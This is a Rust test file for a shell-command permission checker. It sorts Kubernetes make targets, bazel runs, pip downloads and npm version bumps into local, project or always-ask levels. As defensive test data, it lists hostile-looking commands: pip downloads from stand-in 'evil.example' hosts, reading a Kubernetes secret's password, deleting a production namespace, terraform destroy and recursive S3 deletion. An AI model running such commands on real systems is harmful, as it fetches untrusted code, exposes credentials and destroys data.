//! Commands of a project's own workflow that join a family once what they act on is plain
//! from the command: a Kubernetes operator's Makefile deploying to a cluster a make variable
//! shows is on this machine (the local cluster family, as `kind load` is), `bazel run` of the
//! project's own targets and a download from a package index on this machine (the project's
//! family). Their neighbours that reach the current cluster, publish, deploy, or fetch from
//! another index keep asking.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    missing_docs
)]

mod common;

use airlock_shell::{Level, judge};
use common::{ENV, always_ask, family, project_family};

#[test]
fn an_operators_make_targets_on_a_local_cluster_are_the_local_cluster_family() {
    family(
        "local cluster",
        &[
            "make deploy IMG=snapshot-operator:dev KUBECONFIG=/tmp/kind-snapshots.kubeconfig",
            "make deploy IMG=kind.local/snapshot-operator:dev KUBE_CONTEXT=kind-snapshots -j4",
            "make install KUBECONFIG=/tmp/kind-snapshots.kubeconfig",
            "make install KUBE_CONTEXT=kind-snapshots",
            "make undeploy KUBECONFIG=hack/kind.kubeconfig",
            "make install deploy IMG=op:dev KUBECONTEXT=k3d-dev",
            // The family `kind load` and a local context's kubectl are in.
            "kind load docker-image snapshot-operator:dev --name snapshots",
            "kubectl --context kind-snapshots apply -k config/default",
        ],
    );
}

#[test]
fn an_operators_make_targets_on_the_current_cluster_keep_asking() {
    always_ask(&[
        "make install",
        "make uninstall",
        "make deploy",
        "make deploy IMG=ghcr.io/tessera/snapshot-operator:v0.7.0",
        "make deploy IMG=tessera/snapshot-operator:dev",
        "make deploy IMG=registry.example.com:5000/op:dev",
        "make deploy IMG=op:prod",
        "make deploy IMG=$IMG",
        "make deploy IMG=op:dev KUBECONFIG=~/.kube/prod",
        "make deploy IMG=op:dev KUBE_CONTEXT=gke_tessera-prod_europe-west4_prod-eu",
        "make deploy IMG=op:dev KUBECONFIG=/tmp/kind-prod.yaml",
        "KUBECONFIG=~/.kube/prod make deploy IMG=op:dev",
        "make deploy IMG=op:dev ENV=prod",
        "make deploy docker-push IMG=op:dev",
        "make -C ../other deploy IMG=op:dev",
        "make deploy -f other.mk IMG=op:dev",
        // Installing the definitions: an image says nothing of the cluster.
        "make install IMG=op:dev",
        "make install deploy IMG=op:dev",
        // Nor does deploying it (found in review): `make deploy` applies to the current
        // context whatever the image, and one no remote cluster pulls still replaces the
        // definitions and roles there.
        "make deploy IMG=kind.local/snapshot-operator:dev",
        "make deploy IMG=snapshot-operator:dev",
        "make deploy IMG=localhost:5001/snapshot-operator:pr-88",
        "make deploy IMG=ko.local/operator",
        "make deploy IMG=controller:latest -j4",
    ]);
}

#[test]
fn bazel_run_of_the_projects_targets_is_the_project_family() {
    project_family(&[
        "bazel run -c opt //libs/geom:simplify_bench -- --benchmark_filter='Visvalingam|DouglasPeucker'",
        "bazel run -c opt //libs/geom:simplify_bench -- --benchmark_filter=Visvalingam",
        "bazel run //libs/geom:simplify_bench",
        "bazel run //:gazelle",
        "bazel run //:gazelle -- --mode=diff py/",
        "bazel run //:buildifier.check",
        "bazelisk run //tools:codegen",
    ]);
    always_ask(&[
        "bazel run //py/meridian_geo:wheel.publish -- --repository-url http://localhost:8080",
        "bazel run //services/tiler:deploy_prod",
        "bazel run //services/tiler:image_push -- --tag latest",
        "bazel run //deploy:prod_deploy",
        "bazel run //:release",
        "bazel run //k8s:prod.apply",
        "bazel run //k8s:dev.delete",
        "bazel run //k8s:staging.replace",
    ]);
}

/// A target handed a subcommand of its own (a wrapped kubectl, terraform or helm) runs that
/// program's command, which the project's family never covers (found in review): it keeps a
/// question of its own; options and paths after `--` only tune the project's binary.
#[test]
fn bazel_run_of_a_wrapped_tools_subcommand_is_not_the_project_family() {
    for s in [
        "bazel run //tools:kubectl -- delete ns prod",
        "bazel run @io_k8s//:kubectl delete ns prod",
        "bazel run //infra:terraform -- apply -auto-approve",
        "bazel run //infra:terraform -- -chdir=infra destroy",
        "bazelisk run //tools:helm -- upgrade --install api ./chart",
        "bazel run -c opt //tools:aws -- s3 rm --recursive s3://bucket",
    ] {
        let v = judge(s, &ENV);
        assert!(v.level >= Level::AskOnce, "{s}: {:?}", v.level);
        assert_ne!(v.grant.as_deref(), common::PROJECT, "{s}: {}", v.row);
    }
    project_family(&[
        "bazel run //:gazelle --",
        "bazel run //libs/geom:simplify_bench -- --benchmark_min_time=2s",
        "bazel run //tools:codegen -- --out=gen/ api/schema.json",
    ]);
}

#[test]
fn a_download_from_an_index_on_this_machine_is_the_project_family() {
    project_family(&[
        "pip download --no-deps --index-url http://localhost:8080/simple/ meridian-geo==1.9.0 -d /tmp/dl",
        "pip download --no-deps -i http://127.0.0.1:8080/simple meridian-geo -d wheels",
        "pip download --index-url=http://localhost:8080/simple/ meridian-geo",
        "pip3 download -i http://localhost:3141/root/dev/+simple/ shop -d dist/check",
    ]);
    always_ask(&[
        // Another index beside it, or one that only looks local.
        "pip download -i http://localhost:8080/simple -i https://pypi.evil.example/simple x",
        "pip download -i http://localhost@evil.example/simple x",
        "pip download -i http://localhost.evil.example/simple x",
        // A requirement fetched from an address of its own, beside the local index (found
        // in review).
        "pip download -i http://localhost:8080/simple/ https://evil.example/pkg.tar.gz",
        "pip download -i http://localhost:8080/simple/ git+https://github.com/x/y",
        "pip download -i http://localhost:8080/simple/ 'pkg @ https://evil.example/p.whl'",
        "pip3 download --index-url=http://127.0.0.1:8080/simple -- https://evil.example/x.tgz",
        // Written outside the workspace and beyond a scratch folder under /tmp.
        "pip download -i http://localhost:8080/simple x -d ~/.config",
        "pip download -i http://localhost:8080/simple x -d /tmp/a/b",
        "pip download -i http://localhost:8080/simple x -d /etc",
        "pip download -i http://localhost:8080/simple x -d ../elsewhere",
    ]);
    // From the public index it asks under its own words, as before; from another index, under
    // what it fetches from, so that a yes to one index never covers another.
    let v = judge("pip download requests", &ENV);
    assert_eq!(v.level, Level::AskOnce, "{}", v.row);
    assert_eq!(v.grant.as_deref(), Some("pip download"));
    for (s, index) in [
        (
            "pip download -i http://localhost:8080/simple --extra-index-url https://evil/simple x",
            "https://evil/simple",
        ),
        (
            "pip download --index-url https://pypi.example.org/simple x",
            "https://pypi.example.org/simple",
        ),
    ] {
        let v = judge(s, &ENV);
        assert_eq!(v.level, Level::AskOnce, "{s}: {}", v.row);
        let key = v.grant.unwrap_or_default();
        assert!(
            key.starts_with("pip download ") && key.contains(index),
            "{s}: {key}"
        );
    }
}

/// kubectl's current context, as the caller read it from the kubeconfig
/// (`ShellEnv::kube_context`): plainly local (`kind-snapshots`, `minikube`), a script that
/// acts through it and cannot switch it first is the local cluster family, as it is given that
/// context by name; any other context, a script that may switch it (a context switch, a
/// plugin, a script of the project, a wrapper), or a cluster of the command's own keeps
/// asking. Secrets keep their own question on any cluster.
#[test]
fn kubectls_current_context_on_this_machine_is_the_local_cluster_family() {
    let acting = [
        "make deploy IMG=snapshot-operator:dev",
        "make deploy IMG=kind.local/snapshot-operator:dev -j4",
        "make undeploy IMG=op:dev",
        "make install deploy IMG=op:dev",
        "kubectl apply -f config/samples/ops_v1alpha1_snapshotschedule.yaml",
        "kubectl -n demo delete snapshotschedule nightly",
        "kubectl rollout restart deploy/web -n demo",
        "kustomize build config/default | kubectl apply -f -",
        "helm upgrade --install web ./chart -n demo",
        "cd config/manager && make deploy IMG=op:dev",
        "make deploy IMG=op:dev && kubectl -n op-system rollout status deploy/op-controller-manager",
        "make deploy IMG=op:dev 2>&1 | tail -20",
    ];
    for context in [
        "kind-snapshots",
        "k3d-dev",
        "minikube",
        "docker-desktop",
        "orbstack",
    ] {
        let env = ENV.with_kube_context(Some(context));
        for s in acting {
            let v = judge(s, &env);
            assert_eq!(
                (v.level, v.grant.as_deref()),
                (Level::AskOnce, Some("local cluster")),
                "{context}: {s}: {}",
                v.reason
            );
        }
    }
    // Another cluster, or none known: as before.
    for context in [
        None,
        Some("gke_tessera-prod_europe-west4_prod-eu"),
        Some("kind-prod"),
        Some("minikube-prd"),
        Some("arn:aws:eks:eu-west-1:1:cluster/dev"),
        Some("dev"),
        Some("staging"),
    ] {
        let env = ENV.with_kube_context(context);
        for s in acting {
            let v = judge(s, &env);
            assert!(
                v.level == Level::AlwaysAsk && v.grant.is_none(),
                "{context:?}: {s}: {:?} {:?}",
                v.level,
                v.grant
            );
        }
    }
    // A script that may switch the context first, another cluster named by the command, a
    // wrapper, a remote run, or a secret: as before, with a local current context.
    let env = ENV.with_kube_context(Some("kind-snapshots"));
    for s in [
        // Any project's `make install` (into `/usr/local`) or `make deploy` (to its servers):
        // only an operator's image says the Makefile is an operator's (found in review).
        "make install",
        "make uninstall",
        "make deploy",
        "make undeploy",
        "make deploy ENV=staging",
        "make install PREFIX=/usr/local",
        "make install deploy",
        "make deploy IMG=",
        // Another home is another `~/.kube/config` (found in review).
        "HOME=/tmp/other kubectl apply -f x.yaml",
        "HOME=/tmp/other make deploy IMG=op:dev",
        "kubectl config use-context gke_prod && make deploy IMG=op:dev",
        "kubectl ctx prod; kubectl apply -f x.yaml",
        "kubectx prod && kubectl apply -f x.yaml",
        "gcloud container clusters get-credentials prod && make deploy",
        "aws eks update-kubeconfig --name prod && kubectl apply -f x.yaml",
        "./hack/use-prod.sh && make deploy IMG=op:dev",
        "export KUBECONFIG=~/.kube/prod; make deploy IMG=op:dev",
        "KUBECONFIG=~/.kube/prod make deploy IMG=op:dev",
        "KUBECONFIG=~/.kube/prod kubectl apply -f x.yaml",
        "make deploy IMG=op:dev KUBE_CONTEXT=gke_prod",
        "make deploy IMG=op:dev KUBECONFIG=~/.kube/prod",
        "make docker-build deploy IMG=op:dev",
        "make -C ../other deploy",
        "sudo make deploy IMG=op:dev",
        "kubectl --context gke_prod apply -f x.yaml",
        "kubectl --kubeconfig ~/.kube/prod apply -f x.yaml",
        "kubectl -s https://prod.example.com:6443 apply -f x.yaml",
        "kubectl --server=https://prod.example.com:6443 delete ns demo",
        "helm --kube-context gke_prod upgrade web ./chart",
        "helm upgrade web ./chart --kubeconfig ~/.kube/prod",
        "ssh ops@bastion kubectl apply -f x.yaml",
        "kubectl $VERB -f x.yaml",
        "kubectl get secret db -o yaml",
        "kubectl -n demo get secret db -o jsonpath='{.data.password}'",
    ] {
        let v = judge(s, &env);
        assert!(
            v.level == Level::AlwaysAsk && v.grant.as_deref() != Some("local cluster"),
            "{s}: {:?} {:?} {}",
            v.level,
            v.grant,
            v.reason
        );
    }
    // What only reads keeps reading.
    for s in [
        "kubectl get pods -n demo",
        "kubectl -n demo describe snapshotschedule nightly",
    ] {
        assert_eq!(judge(s, &env).level, Level::Allow, "{s}");
    }
}

/// A version written into the manifest only (`npm version minor --no-git-tag-version`) changes
/// the project's files and runs its version scripts: the project's family, in npm, pnpm, yarn
/// and bun, as `changeset version` is. The same bump that commits and tags keeps its own
/// question; publishing after it, in the same script, always asks.
#[test]
fn a_version_bump_without_a_tag_is_the_project_family() {
    project_family(&[
        "npm version prerelease --preid beta --no-git-tag-version",
        "npm version minor --no-git-tag-version",
        "npm version 2.4.0 --no-git-tag-version --allow-same-version",
        "npm --no-git-tag-version version patch",
        "npm version patch --git-tag-version=false",
        "npm version patch -w packages/core --no-git-tag-version",
        "pnpm version minor --no-git-tag-version",
        "yarn version --new-version 1.3.0 --no-git-tag-version",
    ]);
    for s in [
        "npm version patch",
        "npm version minor -m 'Release %s'",
        "yarn version --patch",
    ] {
        let v = judge(s, &ENV);
        assert!(
            v.level != Level::Allow && v.grant.as_deref() != common::PROJECT,
            "{s}: {:?} `{}` {:?}",
            v.level,
            v.row,
            v.grant
        );
    }
    always_ask(&[
        "npm version patch --no-git-tag-version && npm publish",
        "npm version minor --no-git-tag-version && npm run release",
        "npm version minor --no-git-tag-version && git push --force origin main",
    ]);
}
